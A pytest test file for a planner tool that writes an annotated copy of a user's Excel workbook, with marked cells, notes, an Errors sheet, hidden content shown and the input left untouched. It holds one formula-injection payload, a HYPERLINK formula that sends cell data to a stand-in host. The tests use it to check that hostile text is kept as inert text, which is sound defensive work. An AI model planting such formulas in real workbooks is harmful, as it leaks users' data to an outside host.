"""The annotated copy: marked cells, notes, the Errors sheet and its links, the input untouched.

Most tests annotate one workbook (:func:`user_workbook`) that a user has edited by hand:
its sheet names and headers differ in case and spaces from the contract's, and it holds
a formula, a note, a hidden row, a merged range and text that looks like a formula.
"""

from __future__ import annotations

import hashlib
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from workbooks import minimal_scenario_tables, set_cell, write_workbook

from planner.analysis.checks import check
from planner.errors import InputError, OutputError, Problem
from planner.io.annotate import ERROR_FILL, WARNING_FILL, write_annotated
from planner.io.reader import read_workbook
from planner.io.validate import load_scenario, locate, validate

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def user_workbook(path: Path) -> Path:
    """The minimal scenario as a user might have left it.

    Countries is titled `` countries `` with the header ``Member`` (column C); its column E
    is a note column holding a formula in row 2 and hostile text in row 3. Countries C3 has
    a note of the user's; row 4 is hidden. Capacity D3:E3 is merged. Resources is hidden.
    """
    tables = minimal_scenario_tables()
    set_cell(tables, "Countries", 1, "#check", "#check")
    set_cell(tables, "Countries", 2, "#check", "=1+1")
    tables["Countries"][0][2] = " Member "
    tables = {(" countries " if name == "Countries" else name): t for name, t in tables.items()}
    write_workbook(path, tables)
    book = openpyxl.load_workbook(path)
    sheet = book[" countries "]
    sheet["E3"].value = HOSTILE
    sheet["E3"].data_type = "s"
    sheet["C3"].comment = Comment("checked with the ministry", "analyst")
    sheet.row_dimensions[4].hidden = True
    book["Capacity"].merge_cells("D3:E3")
    book["Resources"].sheet_state = "hidden"
    book.save(path)
    return path


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return user_workbook(tmp_path / "scenario.xlsx")


PROBLEMS = [
    Problem("Countries", 3, "member", "'maybe' is not yes or no; type yes or no"),
    Problem("Countries", 3, "member", "a second problem in the same cell"),
    Problem("Countries", 4, "budget", "the budget is negative"),
    Problem("Capacity", 5, "", "cell J5 holds a value but column J has no header"),
    Problem("Capacity", 3, "existing", "inside a merged range"),
    Problem("Targets", None, "amount", "a whole column"),
    Problem("Links", None, "", "a whole sheet"),
    Problem("", None, "", "a problem with the file itself"),
    Problem("Resources", 2, HOSTILE, HOSTILE),
]
WARNINGS = [Problem("Targets", 3, "country", "B cannot make compute on its own")]


@pytest.fixture(scope="module")
def annotated(tmp_path_factory: pytest.TempPathFactory) -> openpyxl.Workbook:
    """The user's workbook annotated with :data:`PROBLEMS` and :data:`WARNINGS` (read only)."""
    folder = tmp_path_factory.mktemp("annotated")
    source = user_workbook(folder / "scenario.xlsx")
    out = write_annotated(source, PROBLEMS, folder / "FIXME.xlsx", warnings=WARNINGS)
    assert out == folder / "FIXME.xlsx"
    return openpyxl.load_workbook(out)


def errors_rows(book: openpyxl.Workbook) -> list[tuple[object, ...]]:
    return [tuple(c.value for c in row) for row in book["Errors"].iter_rows(min_row=2)]


def test_the_errors_sheet_is_first_and_active(annotated: openpyxl.Workbook) -> None:
    assert annotated.sheetnames[0] == "Errors"
    assert annotated.active.title == "Errors"
    assert [c.value for c in annotated["Errors"][1]] == [
        "severity",
        "sheet",
        "row",
        "column",
        "cell",
        "message",
    ]


def test_the_errors_sheet_lists_every_problem_errors_first(
    annotated: openpyxl.Workbook,
) -> None:
    assert errors_rows(annotated) == [
        ("error", "workbook", None, None, None, "a problem with the file itself"),
        ("error", " countries ", 3, "member", " countries !C3", PROBLEMS[0].message),
        ("error", " countries ", 3, "member", " countries !C3", PROBLEMS[1].message),
        ("error", " countries ", 4, "budget", " countries !D4", PROBLEMS[2].message),
        ("error", "Resources", 2, HOSTILE, "Resources!A2", HOSTILE),
        ("error", "Capacity", 3, "existing", "Capacity!C3", PROBLEMS[4].message),
        ("error", "Capacity", 5, None, "Capacity!A5", PROBLEMS[3].message),
        ("error", "Targets", None, "amount", "Targets!C1", "a whole column"),
        ("error", "Links", None, None, "Links", "a whole sheet"),
        ("warning", "Targets", 3, "country", "Targets!A3", WARNINGS[0].message),
    ]


def test_each_listed_cell_links_to_its_cell(annotated: openpyxl.Workbook) -> None:
    links = {
        row[4].value: row[4].hyperlink.location
        for row in annotated["Errors"].iter_rows(min_row=2)
        if row[4].hyperlink is not None
    }
    assert links == {
        " countries !C3": "' countries '!C3",
        " countries !D4": "' countries '!D4",
        "Resources!A2": "'Resources'!A2",
        "Capacity!C3": "'Capacity'!C3",
        "Capacity!A5": "'Capacity'!A5",
        "Targets!C1": "'Targets'!C1",
        "Links": "'Links'!A1",
        "Targets!A3": "'Targets'!A3",
    }


def test_problem_cells_are_filled_and_noted(annotated: openpyxl.Workbook) -> None:
    countries = annotated[" countries "]
    assert countries["C3"].fill == ERROR_FILL
    note = countries["C3"].comment.text
    assert note.startswith("Error: 'maybe' is not yes or no; type yes or no\n\n")
    assert "Error: a second problem in the same cell" in note
    assert note.endswith("(The note that was here: checked with the ministry)")
    assert countries["D4"].fill == ERROR_FILL
    assert "the budget is negative" in countries["D4"].comment.text
    assert annotated["Targets"]["A3"].fill == WARNING_FILL
    assert annotated["Targets"]["A3"].comment.text.startswith("Warning: B cannot make")


def test_row_column_and_merged_problems_mark_the_nearest_cell(
    annotated: openpyxl.Workbook,
) -> None:
    capacity, targets = annotated["Capacity"], annotated["Targets"]
    assert capacity["A5"].fill == ERROR_FILL  # a row-level problem: the row's first cell
    assert capacity["C3"].fill == ERROR_FILL  # D3:E3 is merged; C3 is not in it
    assert targets["C1"].fill == ERROR_FILL  # a column-level problem: its header cell
    assert "a whole column" in targets["C1"].comment.text


def test_sheet_and_file_problems_mark_no_cell(annotated: openpyxl.Workbook) -> None:
    marked = [
        (sheet.title, cell.coordinate)
        for sheet in annotated.worksheets[1:]
        for row in sheet.iter_rows()
        for cell in row
        if cell.comment is not None and cell.comment.author == "planner"
    ]
    assert sorted(marked) == [
        (" countries ", "C3"),
        (" countries ", "D4"),
        ("Capacity", "A5"),
        ("Capacity", "C3"),
        ("Resources", "A2"),
        ("Targets", "A3"),
        ("Targets", "C1"),
    ]
    assert annotated["Links"]["A1"].fill != ERROR_FILL


def test_a_merged_cell_problem_marks_the_top_left_cell(source: Path, tmp_path: Path) -> None:
    problems = [Problem("Capacity", 3, "max_new", "inside the merged range D3:E3")]
    book = openpyxl.load_workbook(write_annotated(source, problems, tmp_path / "out.xlsx"))
    assert book["Capacity"]["D3"].fill == ERROR_FILL
    assert "merged range" in book["Capacity"]["D3"].comment.text


def test_text_from_the_input_stays_text_and_formulas_stay_formulas(
    annotated: openpyxl.Workbook,
) -> None:
    errors = annotated["Errors"]
    for row in errors.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    (hostile,) = [row for row in errors.iter_rows(min_row=2) if row[3].value == HOSTILE]
    assert (hostile[3].data_type, hostile[5].data_type) == ("s", "s")
    assert hostile[3].quotePrefix and hostile[5].quotePrefix
    countries = annotated[" countries "]
    assert (countries["E2"].value, countries["E2"].data_type) == ("=1+1", "f")
    assert (countries["E3"].value, countries["E3"].data_type) == (HOSTILE, "s")


def test_hidden_rows_and_sheets_holding_a_problem_are_shown(
    source: Path, annotated: openpyxl.Workbook
) -> None:
    before = openpyxl.load_workbook(source)
    assert before[" countries "].row_dimensions[4].hidden
    assert before["Resources"].sheet_state == "hidden"
    assert not annotated[" countries "].row_dimensions[4].hidden
    assert annotated["Resources"].sheet_state == "visible"


def test_the_input_is_unchanged_and_no_temporary_file_is_left(source: Path, tmp_path: Path) -> None:
    before = hashlib.sha256(source.read_bytes()).hexdigest()
    write_annotated(source, PROBLEMS, tmp_path / "FIXME.xlsx")
    assert hashlib.sha256(source.read_bytes()).hexdigest() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["FIXME.xlsx", "scenario.xlsx"]


def test_the_copy_is_never_written_over_its_input(source: Path) -> None:
    before = source.read_bytes()
    with pytest.raises(OutputError, match="this is the input workbook"):
        write_annotated(source, PROBLEMS, source)
    assert source.read_bytes() == before


def test_a_failed_write_leaves_the_previous_copy(
    source: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "FIXME.xlsx"
    out.write_bytes(b"the previous copy")

    def fail(*args: object, **kwargs: object) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(openpyxl.Workbook, "save", fail)
    with pytest.raises(RuntimeError, match="disk full"):
        write_annotated(source, PROBLEMS, out)
    assert out.read_bytes() == b"the previous copy"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["FIXME.xlsx", "scenario.xlsx"]


def test_a_sheet_called_errors_is_kept_and_the_list_takes_another_name(
    tmp_path: Path,
) -> None:
    tables = {**minimal_scenario_tables(), "errors": [["my own notes"]]}
    source = write_workbook(tmp_path / "s.xlsx", tables)
    book = openpyxl.load_workbook(write_annotated(source, PROBLEMS, tmp_path / "out.xlsx"))
    assert book.sheetnames[0] == "Errors 2"
    assert book["errors"]["A1"].value == "my own notes"


def test_a_workbook_without_problems_says_so(source: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write_annotated(source, [], tmp_path / "out.xlsx"))
    assert errors_rows(book) == [(None, None, None, None, None, "No problems found.")]


def test_an_unreadable_workbook_is_an_input_error(tmp_path: Path) -> None:
    source = tmp_path / "s.xlsx"
    source.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(InputError, match="cannot copy the workbook"):
        write_annotated(source, PROBLEMS, tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def test_validation_problems_land_on_their_cells(tmp_path: Path) -> None:
    """End to end: the validator's problems, as the CLI would pass them."""
    tables = minimal_scenario_tables()
    set_cell(tables, "Capacity", 2, "cost", "ten")  # column D
    set_cell(tables, "Countries", 3, "member", "maybe")  # column C
    source = write_workbook(tmp_path / "s.xlsx", tables)
    with pytest.raises(InputError) as info:
        load_scenario(source)
    out = write_annotated(source, info.value.problems, tmp_path / "FIXME.xlsx")
    book = openpyxl.load_workbook(out)
    assert book["Capacity"]["D2"].fill == ERROR_FILL
    assert "'ten' is text, not a number" in book["Capacity"]["D2"].comment.text
    assert book["Countries"]["C3"].fill == ERROR_FILL
    assert len(errors_rows(book)) == len(info.value.problems) == 2


def test_check_warnings_land_on_their_cells(tmp_path: Path) -> None:
    """End to end: the pre-solve warnings of a valid workbook, located through the reader."""
    source = write_workbook(tmp_path / "s.xlsx", minimal_scenario_tables())
    raw = read_workbook(source)
    found = check(validate(raw), locate(raw))
    out = write_annotated(source, [], tmp_path / "FIXME.xlsx", warnings=found)
    book = openpyxl.load_workbook(out)
    assert book["Targets"]["A3"].fill == WARNING_FILL  # B cannot make compute alone
    assert [row[0] for row in errors_rows(book)] == ["warning"]
